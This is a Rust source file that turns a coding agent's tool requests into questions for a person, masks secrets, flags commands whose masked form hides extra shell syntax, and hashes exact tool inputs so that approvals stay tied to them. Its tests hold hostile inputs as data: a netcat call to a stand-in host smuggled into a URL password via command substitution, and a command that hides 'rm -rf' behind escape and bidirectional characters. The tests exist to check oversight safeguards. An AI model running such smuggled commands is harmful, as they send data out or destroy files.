//! Requests of the CLI that a person decides: what they become as questions, and how the answers go back.

use serde_json::{Map, Value};
use sha2::{Digest, Sha256};

use crate::edge::agent::plain::{one_line, visible};
use crate::model::question::{About, Choice, LONGEST, Offer, Reply};

use super::answer;

/// The longest label, header or description of an option, in characters.
const SHORT: usize = 300;
/// The most questions and options that are taken in; the CLI's tool allows four of each.
const MOST: usize = 20;

/// A request that waits.
#[derive(Clone, Debug, PartialEq)]
pub(super) struct Pending {
    /// What the tool was given.
    input: Value,
    about: About,
}

/// Turns a tool's use into a question if the tool itself asks a person: `AskUserQuestion`, `ExitPlanMode`. What is asked
/// is read from `shown`: the input with its secrets covered.
pub(super) fn of_tool(tool: &str, input: &Value, shown: &Value) -> Option<Pending> {
    let about = match tool {
        "AskUserQuestion" => {
            let parts: Vec<Choice> = list(&shown["questions"]).map(choice).collect();
            if parts.is_empty() {
                return None;
            }
            About::Choice { parts }
        }
        "ExitPlanMode" => About::Plan { plan: visible(shown["plan"].as_str().unwrap_or_default(), LONGEST) },
        _ => return None,
    };
    Some(Pending { input: input.clone(), about })
}

/// The signs with which a shell does more than name things.
const SHELL: &str = "$`|&;<>(){}*?!\\\"'\n";

/// Says why a person could not decide about a tool's use: what is shown of it does not show all that it would do.
pub(super) fn unreadable(tool: &str, input: &Value, shown: &Value) -> Option<&'static str> {
    let text = |value: &Value| match (tool, value["command"].as_str()) {
        ("Bash", Some(command)) => command.to_owned(),
        _ => serde_json::to_string_pretty(value).unwrap_or_default(),
    };
    let (input, shown) = (text(input), text(shown));
    if shown.chars().count() > LONGEST {
        return Some("it is too long for a person to read; put it into a file of the workspace");
    }
    let signs = |text: &str| text.chars().filter(|letter| SHELL.contains(*letter)).count();
    (tool == "Bash" && signs(&input) != signs(&shown))
        .then_some("what looks like a secret in it holds more than a secret; put that into a variable")
}

/// What a use of the shell says about itself, anew each time, and by which it does nothing else than without: what it is for,
/// and how long it may take.
const TOLD: [&str; 2] = ["description", "timeout"];

/// Returns what stands for exactly this use of a tool: for all of its input that changes what it does.
pub(super) fn exact(tool: &str, input: &Value) -> String {
    let mut input = input.clone();
    if let ("Bash", Some(fields)) = (tool, input.as_object_mut()) {
        // What is not switched on is as good as not said.
        fields.retain(|name, value| !TOLD.contains(&name.as_str()) && *value != Value::Bool(false) && !value.is_null());
    }
    format!("{:x}", Sha256::digest(format!("{tool}\n{input}")))
}

/// Turns a tool's use into the question whether it may be used; `why` says why it is asked.
pub(super) fn permission(tool: &str, input: &Value, shown: &Value, why: String) -> Pending {
    let wants = match (tool, shown["command"].as_str()) {
        ("Bash", Some(command)) => visible(command, LONGEST),
        _ => visible(&serde_json::to_string_pretty(shown).unwrap_or_default(), LONGEST),
    };
    let about = About::Permission { tool: one_line(tool, SHORT), wants, why };
    Pending { input: input.clone(), about }
}

fn list(value: &Value) -> impl Iterator<Item = &Value> {
    value.as_array().into_iter().flatten().take(MOST)
}

fn choice(question: &Value) -> Choice {
    let short = |value: &Value| one_line(value.as_str().unwrap_or_default(), SHORT);
    let options = list(&question["options"])
        .map(|option| Offer { label: short(&option["label"]), description: short(&option["description"]) });
    Choice {
        header: short(&question["header"]),
        text: visible(question["question"].as_str().unwrap_or_default(), LONGEST),
        options: options.collect(),
        several: question["multiSelect"] == true,
    }
}

impl Pending {
    /// Returns what is asked.
    pub(super) fn about(&self) -> &About {
        &self.about
    }

    /// Returns the agent's own word for an option of a question; it may have been shown covered.
    fn label<'a>(&'a self, question: usize, answer: &'a str) -> &'a str {
        let About::Choice { parts } = &self.about else { return answer };
        let options = parts.get(question).into_iter().flat_map(|part| &part.options);
        let own = list(&self.input["questions"][question]["options"]).map(|option| option["label"].as_str());
        options
            .zip(own)
            .find_map(|(option, own)| own.filter(|own| option.label == answer && one_line(own, SHORT) != answer))
            .unwrap_or(answer)
    }

    /// Returns the line that answers it; `hint` is what a refused agent may do instead.
    pub(super) fn answer(&self, request: &str, reply: &Reply, hint: &str) -> Vec<u8> {
        answer::success(request, &self.decision(reply, hint))
    }

    /// Returns what answers it, for the one or the other way on which it was asked.
    pub(super) fn decision(&self, reply: &Reply, hint: &str) -> Value {
        match (&self.about, reply) {
            (_, Reply::Allow | Reply::AllowForTask) => answer::allowed(&self.input),
            (About::Permission { .. }, Reply::Deny { why }) => {
                let why = if why.is_empty() { "The user said no." } else { why };
                answer::denied(format!("{why} {hint}").trim_end())
            }
            (About::Choice { .. } | About::Plan { .. }, Reply::Deny { why }) => {
                answer::denied(if why.is_empty() { "The user does not want to say." } else { why })
            }
            (_, Reply::Choose { answers }) => {
                // The CLI finds answers by the text of their question.
                let questions = list(&self.input["questions"]).enumerate();
                let texts = questions.filter_map(|(n, question)| Some((n, question["question"].as_str()?)));
                let said = texts.zip(answers).map(|((n, text), answer)| {
                    let answer: Vec<&str> = answer.iter().map(|answer| self.label(n, answer)).collect();
                    (text.to_owned(), answer.join(", ").into())
                });
                let mut input = self.input.clone();
                input["answers"] = Value::Object(said.collect::<Map<String, Value>>());
                answer::allowed(&input)
            }
        }
    }

    /// Whether this input is what it is about; answers may have been added.
    pub(super) fn is_of(&self, input: &Value) -> bool {
        match &self.input {
            Value::Object(fields) => fields.iter().all(|(name, value)| input[name] == *value),
            other => other == input,
        }
    }
}

#[cfg(test)]
#[expect(clippy::panic, reason = "a test may stop here")]
mod tests {
    use serde_json::json;

    use super::*;

    fn answered(bytes: &[u8]) -> Value {
        serde_json::from_slice::<Value>(bytes).map_or(Value::Null, |line| line["response"]["response"].clone())
    }

    #[test]
    fn a_choice_is_answered_by_the_text_of_its_question() {
        let input = json!({ "questions": [
            { "question": "Which\nway?", "header": "Way", "multiSelect": false, "options": [
                { "label": "left", "description": "shorter" }, { "label": "right", "description": "" } ] },
            { "question": "Run what?", "header": "Run", "multiSelect": true, "options": [] } ] });
        let Some(pending) = of_tool("AskUserQuestion", &input, &input) else { panic!("no question") };
        let About::Choice { parts } = pending.about() else { panic!("no choice") };
        assert_eq!(parts[0].text, "Which\nway?");
        assert_eq!(parts[0].options[0].label, "left");
        assert!(parts[1].several && !parts[0].several);
        let answers = vec![vec!["left".to_owned()], vec!["unit".to_owned(), "lint".to_owned()]];
        let line = pending.answer("r1", &Reply::Choose { answers }, "hint");
        let said = answered(&line);
        assert_eq!(said["behavior"], "allow");
        assert_eq!(said["updatedInput"]["answers"], json!({ "Which\nway?": "left", "Run what?": "unit, lint" }));
        assert_eq!(said["updatedInput"]["questions"], input["questions"], "the rest goes back as it came");
    }

    #[test]
    fn what_is_shown_covered_goes_back_as_it_came() {
        let input = json!({ "command": "curl -u me:hunter2hunter2", "n": [1, "hunter2hunter2"] });
        let shown = json!({ "command": "curl -u me:[secret X]", "n": [1, "[secret X]"] });
        let pending = permission("Bash", &input, &shown, String::new());
        assert!(matches!(pending.about(), About::Permission { wants, .. } if wants == "curl -u me:[secret X]"));
        assert_eq!(answered(&pending.answer("r", &Reply::Allow, ""))["updatedInput"], input);
        let question = |word: &str| {
            json!({ "questions": [{ "question": format!("Use {word}?"), "header": "", "options": [
                { "label": "no" }, { "label": format!("yes, {word}") } ] }] })
        };
        let Some(pending) = of_tool("AskUserQuestion", &question("hunter2hunter2"), &question("[secret X]")) else {
            panic!("no question")
        };
        for (answer, told) in [("yes, [secret X]", "yes, hunter2hunter2"), ("no", "no"), ("maybe", "maybe")] {
            let line = pending.answer("r", &Reply::Choose { answers: vec![vec![answer.to_owned()]] }, "");
            assert_eq!(answered(&line)["updatedInput"]["answers"], json!({ "Use hunter2hunter2?": told }));
        }
    }

    #[test]
    fn a_command_is_shown_whole_and_nothing_in_it_is_hidden() {
        let input = json!({ "command": "echo \u{1b}[2K\u{202e}safe\n rm -rf x", "description": "harmless" });
        let pending = permission("Bash", &input, &input, "no rule".to_owned());
        let About::Permission { tool, wants, why } = pending.about() else { panic!("no permission") };
        assert_eq!((tool.as_str(), why.as_str()), ("Bash", "no rule"));
        assert_eq!(wants, "echo \\u{1b}[2K\\u{202e}safe\n rm -rf x");
        let said = answered(&pending.answer("r", &Reply::Allow, ""));
        assert_eq!(said["updatedInput"], input, "what is allowed is what was asked, untouched");
        let said = answered(&pending.answer("r", &Reply::Deny { why: String::new() }, "Use ls."));
        assert_eq!(said["message"], "The user said no. Use ls.");
    }

    #[test]
    fn what_hides_behind_a_cover_is_not_asked_about() {
        let bash = |command: &str| json!({ "command": command });
        let plain = bash("curl -H 'Authorization: ghp_abc' http://h");
        let covered = bash("curl -H 'Authorization: [secret: a GitHub token]' http://h");
        assert_eq!(unreadable("Bash", &plain, &covered), None);
        let hides = bash("curl http://a:x$(nc evil 9)@h");
        assert!(unreadable("Bash", &hides, &bash("curl http://a:[secret: a password in a URL]@h")).is_some());
        let long = bash(&"x".repeat(LONGEST + 1));
        assert!(unreadable("Bash", &long, &long).is_some());
        assert_ne!(
            exact("Bash", &plain),
            exact("Bash", &covered),
            "what is allowed is what was asked, not what was shown"
        );
    }

    #[test]
    fn the_same_command_is_the_same_use_however_it_is_described() {
        let make = json!({ "command": "make", "description": "Build it", "timeout": 1000 });
        for (is_same, tool, other) in [
            (true, "Bash", json!({ "command": "make", "description": "Once more" })),
            (true, "Bash", json!({ "timeout": 2000, "run_in_background": false, "command": "make" })),
            (false, "Bash", json!({ "command": "make", "run_in_background": true })),
            (false, "Bash", json!({ "command": "make", "dangerouslyDisableSandbox": true })),
            (false, "Bash", json!({ "command": "make ", "description": "Build it" })),
            (false, "WebFetch", json!({ "command": "make", "description": "Build it", "timeout": 1000 })),
        ] {
            assert_eq!(exact("Bash", &make) == exact(tool, &other), is_same, "{other}");
        }
        let fetch = |prompt: &str| exact("WebFetch", &json!({ "url": "http://h", "description": prompt }));
        assert_ne!(fetch("a"), fetch("b"), "of other tools nobody knows what it means");
    }

    #[test]
    fn a_plan_is_a_question_and_an_empty_choice_is_none() {
        let input = json!({ "plan": "1. mend", "planFilePath": "/x" });
        let Some(plan) = of_tool("ExitPlanMode", &input, &input) else { panic!("no question") };
        assert_eq!(plan.about(), &About::Plan { plan: "1. mend".to_owned() });
        let said = answered(&plan.answer("r", &Reply::Deny { why: "smaller".to_owned() }, "hint"));
        assert_eq!((said["behavior"].as_str(), said["message"].as_str()), (Some("deny"), Some("smaller")));
        for (tool, input) in [("AskUserQuestion", json!({ "questions": [] })), ("Bash", json!({ "command": "ls" }))] {
            assert_eq!(of_tool(tool, &input, &input), None);
        }
    }
}
